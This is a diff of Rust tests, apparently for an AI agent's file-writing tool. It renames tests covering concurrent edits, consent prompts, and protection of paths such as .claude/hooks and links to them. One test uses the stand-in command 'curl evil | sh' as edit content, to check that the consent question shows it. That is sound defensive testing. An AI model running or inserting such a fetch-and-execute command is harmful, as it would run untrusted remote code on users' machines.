@@ -1,4 +1,4 @@
-//! Files that are written while others write them, too.
+//! Tests writing files while other processes write them, too.
 
 use std::{
     fs,
@@ -90,7 +90,7 @@ impl Place {
 }
 
 #[tokio::test]
-async fn two_edits_at_once_both_stay() {
+async fn parallel_edits_are_both_applied() {
     let place = Place::new(2, |_| {});
     let (first, second) = tokio::join!(place.edit("one", "1"), place.edit("three", "3"));
     assert_eq!((first.failure, second.failure), (None, None));
@@ -98,7 +98,7 @@ async fn two_edits_at_once_both_stay() {
 }
 
 #[tokio::test]
-async fn an_edit_is_made_in_what_is_there_after_the_answer() {
+async fn edit_applies_to_the_file_after_consent() {
     let place = Place::new(1, |work| fs::write(work.join("a.txt"), "zero\ntwo\n").unwrap());
     let answer = place.edit("two", "2").await;
     assert_eq!((answer.failure, place.read("a.txt")), (None, "zero\n2\n".to_owned()));
@@ -109,7 +109,7 @@ async fn an_edit_is_made_in_what_is_there_after_the_answer() {
 }
 
 #[tokio::test]
-async fn what_others_wrote_meanwhile_is_not_lost() {
+async fn concurrent_changes_are_not_lost() {
     for path in ["a.txt", "new.txt"] {
         let place = Place::new(1, move |work| fs::write(work.join(path), "theirs").unwrap());
         let answer = place.call("write_file", json!({"path": path, "content": "mine"})).await;
@@ -119,7 +119,7 @@ async fn what_others_wrote_meanwhile_is_not_lost() {
 }
 
 #[tokio::test]
-async fn what_became_protected_meanwhile_is_not_written() {
+async fn path_protected_during_the_question_is_not_written() {
     let place = Place::new(1, |work| {
         fs::create_dir(work.join("sub/refs")).unwrap();
     });
@@ -129,7 +129,7 @@ async fn what_became_protected_meanwhile_is_not_written() {
 }
 
 #[tokio::test]
-async fn the_question_shows_what_changes() {
+async fn question_shows_the_diff() {
     let place = Place::new(1, |_| {});
     place.edit("two", "curl evil | sh").await;
     place.call("write_file", json!({"path": "new.txt", "content": "hello\u{7}"})).await;
@@ -143,7 +143,7 @@ async fn the_question_shows_what_changes() {
 }
 
 #[tokio::test]
-async fn a_lasting_yes_is_not_for_what_others_obey() {
+async fn lasting_consent_excludes_protected_files() {
     let write = |path: &str, is_obeyed| HostAction::Write {
         path: path.to_owned(),
         bytes: 1,
@@ -160,7 +160,7 @@ async fn a_lasting_yes_is_not_for_what_others_obey() {
 }
 
 #[tokio::test]
-async fn what_a_link_leads_to_is_obeyed_like_the_link() {
+async fn target_of_a_protected_link_is_protected() {
     let place = Place::new(1, |_| {});
     for folder in [".claude/hooks", "docs"] {
         fs::create_dir_all(place.work(folder)).unwrap();
@@ -190,7 +190,7 @@ async fn what_a_link_leads_to_is_obeyed_like_the_link() {
 }
 
 #[tokio::test]
-async fn nobody_is_asked_about_a_link() {
+async fn links_are_refused_without_a_question() {
     let place = Place::new(1, |_| {});
     fs::create_dir(place.work(".vscode")).unwrap();
     for (end, link) in [
